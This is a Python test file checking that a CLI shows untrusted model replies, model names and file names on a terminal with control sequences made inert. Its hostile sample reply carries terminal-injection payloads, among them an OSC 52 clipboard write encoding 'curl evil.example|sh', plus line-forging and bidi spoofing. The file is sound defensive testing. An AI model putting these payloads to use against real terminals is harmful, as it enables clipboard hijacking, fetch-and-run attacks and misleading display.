"""Untrusted text never reaches a terminal as control sequences (issue 15, item 3).

The CLI runs as a child on a real pseudo-terminal (`os.openpty`), against an Ollama
double that answers with OSC 52 (clipboard), OSC 8 (link), a window title, a screen
clear, a CR that rewrites the line, C1 and bidi characters, and lists a model and a
version with escapes in them. On the terminal only ModelWire's own two sequences may
appear (erase-line for the progress line, and the attribute reset before the routing
line); the hostile text is shown with visible stand-ins. Through a pipe the answer
keeps its exact bytes.
"""

from __future__ import annotations

import os
import select
import subprocess
import time
from pathlib import Path

from testkit.doubles.ollama_double import OllamaDouble

from tests.cli.helpers import COMMAND, REPO_ROOT, add_connection, cli_env

HOSTILE_REPLY = (
    "Fine. \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07 "
    "\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ "
    "\x1b]0;pwned\x07 \x1b[2J\x1b[H \r[00:00:00] explain forged.py → Trusted (openai) gpt "
    "\x9b31m \u202egnp.exe\u2066 zero\u200bwidth \x7f end"
)
HOSTILE_MODEL = "evil\x1b]52;c;QUFB\x07"
HOSTILE_VERSION = "0.12.3\x1b]0;title\x07"
OURS = (b"\r\x1b[K", b"\x1b[0m")  # erase the progress line; reset attributes
FORBIDDEN = {
    "an OSC sequence": b"\x1b]",
    "a CSI sequence": b"\x1b[2J",
    "BEL": b"\x07",
    "a C1 CSI": "\x9b".encode(),
    "a bidi override": "\u202e".encode(),
    "a bidi isolate": "\u2066".encode(),
    "a zero-width space": "\u200b".encode(),
    "DEL": b"\x7f",
}


def on_pty(home: Path, *args: str, cwd: Path = REPO_ROOT, timeout: float = 60) -> tuple[int, bytes]:
    """Run the CLI with stdout and stderr on one pseudo-terminal; all it wrote."""
    master, slave = os.openpty()
    proc = subprocess.Popen(
        [*COMMAND, *args],
        cwd=cwd,
        env=cli_env(home),
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
    )
    os.close(slave)
    out = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if not ready:
                if proc.poll() is not None:
                    break
                continue
            try:
                chunk = os.read(master, 65536)
            except OSError:  # EIO: the child closed the terminal
                break
            if not chunk:
                break
            out += chunk
        return proc.wait(timeout=max(1.0, deadline - time.monotonic())), bytes(out)
    finally:
        os.close(master)
        if proc.poll() is None:
            proc.kill()


def _problems(output: bytes) -> list[str]:
    stripped = output.replace(b"\r\n", b"\n")
    for sequence in OURS:
        stripped = stripped.replace(sequence, b"")
    found = [name for name, needle in FORBIDDEN.items() if needle in stripped]
    if b"\x1b" in stripped:
        found.append("another escape sequence")
    if b"\r" in stripped:
        found.append("a bare CR")
    return found


def test_a_hostile_answer_is_shown_inert_on_a_terminal(tmp_path: Path) -> None:
    with OllamaDouble(models=["llama3.2"]) as double:
        double.behave(reply=HOSTILE_REPLY)
        add_connection(tmp_path, "Local", "ollama", double.url, "llama3.2")
        code, output = on_pty(tmp_path, "run", "explain", "samples/inventory.py")

    text = output.decode("utf-8", "replace")
    assert code == 0, text
    assert not _problems(output), (_problems(output), text)
    assert "␛]52;c;" in text and "<U+202E>" in text and "␍[00:00:00]" in text
    assert "\x1b[0m[" in text  # attributes reset right before the routing line


def test_through_a_pipe_the_answer_keeps_its_bytes(tmp_path: Path) -> None:
    with OllamaDouble(models=["llama3.2"]) as double:
        double.behave(reply=HOSTILE_REPLY)
        add_connection(tmp_path, "Local", "ollama", double.url, "llama3.2")
        done = subprocess.run(
            [*COMMAND, "run", "explain", "samples/inventory.py"],
            cwd=REPO_ROOT,
            env=cli_env(tmp_path),
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=60,
        )

    assert done.returncode == 0, done.stderr
    assert done.stdout == (HOSTILE_REPLY + "\n").encode()


def test_model_ids_versions_and_file_names_are_inert_on_a_terminal(tmp_path: Path) -> None:
    workspace = tmp_path / "ws"
    workspace.mkdir()
    hostile_file = workspace / "a\x1b]0;x\x07\u202eyp.py"
    hostile_file.write_text("x = 1\n")
    with OllamaDouble(models=["llama3.2", HOSTILE_MODEL], version=HOSTILE_VERSION) as double:
        add_connection(tmp_path, "Local", "ollama", double.url, "llama3.2")
        outputs = {
            "models": on_pty(tmp_path, "models"),
            "connections test": on_pty(tmp_path, "connections", "test"),
            "doctor": on_pty(tmp_path, "doctor"),
            "run on a hostile file name": on_pty(
                tmp_path, "run", "explain", hostile_file.name, cwd=workspace
            ),
            "runs": on_pty(tmp_path, "runs"),
            "connections list": on_pty(tmp_path, "connections", "list"),
        }

    for what, (_, output) in outputs.items():
        assert not _problems(output), (what, _problems(output), output.decode(errors="replace"))
    assert "evil␛]52" in outputs["models"][1].decode()
    assert "%1B" in outputs["runs"][1].decode() or "␛" in outputs["runs"][1].decode()


def test_raw_output_is_an_explicit_choice(tmp_path: Path) -> None:
    with OllamaDouble(models=["llama3.2"]) as double:
        double.behave(reply="plain \x1b]0;title\x07 end")
        add_connection(tmp_path, "Local", "ollama", double.url, "llama3.2")
        code, output = on_pty(tmp_path, "--raw-output", "run", "explain", "samples/inventory.py")
    assert code == 0
    assert b"\x1b]0;title\x07" in output
